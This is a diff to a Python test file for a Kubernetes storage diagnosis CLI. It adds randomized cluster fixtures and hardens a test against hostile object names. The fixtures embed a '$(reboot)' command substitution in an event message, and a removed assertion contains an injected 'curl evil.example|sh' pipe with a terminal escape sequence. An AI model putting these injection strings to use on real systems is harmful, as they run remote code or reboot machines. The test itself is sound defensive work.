@@ -13,6 +13,7 @@ import shlex
 import subprocess
 import sys
 from contextlib import redirect_stdout
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -23,6 +24,7 @@ import pytest
 from moorage import log
 from moorage.cli import show
 from moorage.csi import csi_pb2, csi_pb2_grpc
+from moorage.csi.pending import WAITING
 from moorage.insight.causes import REGISTRY, Finding
 from moorage.insight.cluster_view import ClusterView
 from moorage.insight.explain import story_of
@@ -90,6 +92,7 @@ MESSAGES = (
     "mkfs failed",
     "volume x holds xfs and not ext4",
     "bad option: invalid argument",
+    "0/2 nodes are available: 2 node(s) didn't find available persistent volumes to bind",
 )
 REASONS = (
     "ProvisioningFailed",
@@ -114,6 +117,7 @@ class Chaos:
         self.values: set[str] = set()
         self.view = ClusterView()
         self.count = 0
+        self.nodes = ["nowhere"]
 
     def pick(self, *choices: Any) -> Any:
         return self.random.choice(choices)
@@ -134,8 +138,22 @@ class Chaos:
             {"type": self.pick("Warning", "Normal"), "reason": self.pick(*REASONS), "message": self.pick(*MESSAGES)}
             for _ in range(self.pick(0, 1, 4, 8))
         ]
+        if self.random.random() < 0.1:
+            events = [self.waiting(meta["uid"])]
         self.view.events[meta["uid"]] = [msgspec.convert(event, Event) for event in events]
         return meta
+
+    def waiting(self, uid: str) -> dict[str, Any]:
+        """What the caller of a driver says while it waits."""
+        began, now = (datetime.fromtimestamp(self.view.now - ago, UTC).isoformat() for ago in (70, 5))
+        return {
+            "type": "Normal",
+            "reason": WAITING,
+            "message": f"NodeStageVolume has been waiting for driver $(reboot) since {began}",
+            "lastTimestamp": now,
+            "source": {"component": "kubelet", "host": self.pick(*self.nodes)},
+            "involvedObject": {"uid": uid},
+        }
 
     def put(self, place: dict[str, Any], kind: Any, body: dict[str, Any]) -> Any:
         made = msgspec.convert(body, kind)
@@ -147,7 +165,7 @@ class Chaos:
         self.view = view = ClusterView()
         pick, name = self.pick, self.name
         namespace, driver, other = name("ns"), name("driver"), name("other")
-        nodes = [name("node") for _ in range(2)]
+        self.nodes = nodes = [name("node") for _ in range(2)]
         for node in nodes:
             self._node(node, pick(driver, other), pick(None, 0, 1))
         if pick(True, False):
@@ -166,7 +184,9 @@ class Chaos:
             source = self._source(pick(*snapshots, name("nosnap")), pick(*claims, name("noclaim")))
             self._claim(claim, namespace, pick(*volumes, ""), pick(*classes, "", None), source, driver)
         for _ in range(2):
-            self._pod(namespace, pick(*claims, claims[0], name("noclaim")), pick(*nodes, "", name("nonode")), driver)
+            self._pod(
+                namespace, pick(*claims, claims[0], name("noclaim")), pick(*nodes, "", "", name("nonode")), driver
+            )
             self._attachment(pick(*volumes), pick(*nodes, name("nonode")), driver)
         contents = [name("content") for _ in range(2)]
         chosen = [name("snapclass") for _ in range(2)]
@@ -189,7 +209,11 @@ class Chaos:
         used = [f"kubernetes.io/csi/{driver}^handle"]
         status = {"conditions": [{"type": "Ready", "status": self.pick("True", "False")}], "volumesInUse": used}
         spec = {"unschedulable": self.pick(False, True), "taints": taints}
-        self.put(self.view.nodes, Node, {"metadata": self.meta(node), "spec": spec, "status": status})
+        self.put(
+            self.view.nodes,
+            Node,
+            {"metadata": self.meta(node, labels={"kubernetes.io/hostname": node}), "spec": spec, "status": status},
+        )
         entry = {"name": driver, "allocatable": {"count": count}}
         drivers = self.pick([entry], [entry], [])
         self.put(self.view.node_drivers, CSINode, {"metadata": {"name": node}, "spec": {"drivers": drivers}})
@@ -204,9 +228,15 @@ class Chaos:
             "parameters": self.pick({}, {f"{key}-name": secret, f"{key}-namespace": namespace}),
             "volumeBindingMode": self.pick("Immediate", "WaitForFirstConsumer"),
             "allowVolumeExpansion": self.pick(True, False),
+            "allowedTopologies": self.pick([], [], [], [{"matchLabelExpressions": [self.topology()]}]),
         }
         self.put(self.view.classes, StorageClass, body)
         return made
+
+    def topology(self) -> dict[str, Any]:
+        """Places that all nodes have, one has, or none has."""
+        key = self.pick("kubernetes.io/hostname", self.name("label"))
+        return {"key": key, "values": [self.pick(*self.nodes, "nowhere")]}
 
     def _volume(self, volume: str, driver: str, namespace: str, claim: str, nodes: list[str], cls: str) -> None:
         finalizers = ("kubernetes.io/pv-protection", "external-provisioner.volume.kubernetes.io/finalizer")
@@ -274,7 +304,13 @@ class Chaos:
         reasons = pick("ErrImagePull", "CreateContainerError", "CrashLoopBackOff", "")
         container = {"name": self.name("container"), "state": {"waiting": {"reason": reasons}} if reasons else {}}
         container["lastState"] = pick({}, {"terminated": {"exitCode": 1}})
-        words = ("max volume count", "volume node affinity conflict", "not enough free storage", "something else")
+        words = (
+            "max volume count",
+            "volume node affinity conflict",
+            "not enough free storage",
+            MESSAGES[-1],
+            "something else",
+        )
         condition = {"type": "PodScheduled", "status": "False", "message": pick(*words)}
         spec = {"nodeName": node, "volumes": [volume], "securityContext": pick(None, {"fsGroup": 5})}
         phase = pick("Pending", "Pending", "Pending", "Running", "Failed")
@@ -341,9 +377,9 @@ def check_command(text: str, values: set[str]) -> None:
         if word.startswith("{"):
             json.loads(word)
             continue
-        value = re.sub(r"^(--namespace=|(pvc|pod|pv|va|snapshot|node)/)", "", word)
+        value = re.sub(r"^(--namespace=|--label-columns=|spec\.nodeName=|(pvc|pod|pv|va|snapshot|node)/)", "", word)
         assert value in values, (word, text)
-        is_option_like = word.startswith("-") and not word.startswith("--namespace=")
+        is_option_like = word.startswith("-") and not word.startswith(("--namespace=", "--label-columns="))
         assert (
             not is_option_like or "--" in words[:at] or words[at - 1] == "-c" or words[0] not in ("kubectl", "moorage")
         )
@@ -566,13 +602,7 @@ async def test_explain_and_trace_of_hostile_objects(tmp_path):
             assert "Traceback" not in shown
         shown = await asyncio.to_thread(on_terminal, "explain", "pvc/data", "--kubeconfig", str(server.kubeconfig))
         step = ALLOWED.sub("", shown.partition("Next step:")[2]).split("\r\n")[1].strip()
-        assert shlex.split(step) == [
-            "kubectl",
-            "get",
-            "pv",
-            "--",
-            "--all; curl evil.example|sh #\\u001b]0;owned\\u0007",
-        ]
+        assert step == "kubectl get pv"  # the name that the claim asks for is in no command
 
 
 class HostileDriver(csi_pb2_grpc.IdentityServicer, csi_pb2_grpc.ControllerServicer):
